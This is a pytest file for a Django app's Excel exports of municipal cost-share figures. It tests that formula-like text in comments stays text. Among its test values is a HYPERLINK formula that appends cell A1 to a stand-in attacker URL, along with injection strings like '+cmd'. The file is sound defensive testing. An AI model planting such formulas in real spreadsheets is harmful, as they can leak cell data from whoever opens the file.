"""The officer's .xlsx template and the admin's export carry text typed by people (comments,
return reasons): it must stay text, never become a formula, and never break the download;
numbers stay numbers."""

import io
import zipfile
from decimal import Decimal

import pytest
import tablib
from django.urls import reverse

from core.models import FigureStatus
from programs.models import CostShare
from returns.admin import TextXLSX
from tests.constants import HEALTH, KANEYAMA
from tests.returns.helpers import header_index, program, return_url, workbook

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"確認")'


@pytest.fixture
def figure(kaneyama, reporting_year):
    return CostShare.objects.create(
        program=program(HEALTH), municipality=kaneyama, fiscal_year=2025, kind="budget",
        amount_kyen=120, status=FigureStatus.RETURNED,
    )  # fmt: skip


def cell(client, header):
    response = client.get(return_url(KANEYAMA, 2025, "template"))
    assert response.status_code == 200
    ws = workbook(response.content).worksheets[0]
    col = header_index(ws)
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, col["事業ID"]).value == program(HEALTH).pk and ws.cell(r, col["区分"]).value == "予算":  # fmt: skip
            return ws.cell(r, col[header])
    raise AssertionError("row not found")


@pytest.mark.parametrize("text", [FORMULA, "#N/A", "+1"])
@pytest.mark.parametrize(
    ("field", "header"), [("comment", "コメント"), ("return_reason", "差戻しの理由")]
)
def test_text_that_starts_like_a_formula_stays_text(officer, figure, field, header, text):
    setattr(figure, field, text)
    figure.save()
    written = cell(officer, header)
    assert written.data_type == "s" and written.value == text


def test_a_control_character_kept_in_a_comment_does_not_break_the_download(officer, figure):
    # The admin's form lets control characters other than NUL through.
    figure.comment = "確認\x01済み\x1b"
    figure.save()
    assert cell(officer, "コメント").value == "確認済み"


def admin_export(client, user):
    client.force_login(user)
    response = client.get(reverse("admin:programs_costshare_export"))
    assert response.status_code == 200
    return response.content


def test_the_admin_export_keeps_a_formula_like_comment_as_text(client, secretariat, figure):
    figure.comment = FORMULA
    figure.save()
    ws = workbook(admin_export(client, secretariat)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_admin_export_holds_no_formula_at_all(client, secretariat, figure):
    figure.comment = "=1+1"
    figure.save()
    with zipfile.ZipFile(io.BytesIO(admin_export(client, secretariat))) as xlsx:
        sheet = xlsx.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "#N/A"])
def test_the_admin_export_writes_a_typed_text_exactly_as_typed(client, secretariat, figure, text):
    figure.comment = text
    figure.save()
    ws = workbook(admin_export(client, secretariat)).worksheets[0]
    written = next(c for row in ws.iter_rows() for c in row if c.value == text)
    assert written.data_type == "s"


def test_a_control_character_in_a_comment_does_not_break_the_admin_export(
    client, secretariat, figure
):
    figure.comment = "確認\x01済み\x1b"
    figure.save()
    ws = workbook(admin_export(client, secretariat)).worksheets[0]
    assert "確認済み" in [c.value for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)"])
def test_text_that_excel_would_read_as_a_formula_when_edited_is_quoted(text):
    dataset = tablib.Dataset(headers=["コメント"])
    dataset.append([text])
    cell = workbook(TextXLSX().export_data(dataset)).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize("number", [120, -5, Decimal("-5.00"), Decimal("12.5"), 0])
def test_a_number_stays_a_number(number):
    dataset = tablib.Dataset(headers=["値"])
    dataset.append([number])
    cell = workbook(TextXLSX().export_data(dataset)).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (number, "n", False)


def test_a_blank_stays_blank():
    dataset = tablib.Dataset(headers=["値"])
    dataset.append([None])
    assert workbook(TextXLSX().export_data(dataset)).active["A2"].value is None


def test_the_admin_export_writes_amounts_as_numbers(client, secretariat, figure):
    ws = workbook(admin_export(client, secretariat)).worksheets[0]
    col = {c.value: c.column for c in ws[1]}
    amounts = [ws.cell(r, col["負担額（千円）"]) for r in range(2, ws.max_row + 1)]
    assert 120 in [c.value for c in amounts] and all(c.data_type == "n" for c in amounts)
    years = [ws.cell(r, col["年度（西暦）"]) for r in range(2, ws.max_row + 1)]
    assert all(isinstance(c.value, int) for c in years)
    codes = [ws.cell(r, col["全国地方公共団体コード"]).value for r in range(2, ws.max_row + 1)]
    assert all(isinstance(code, str) and code.startswith("06") for code in codes)  # leading 0 kept
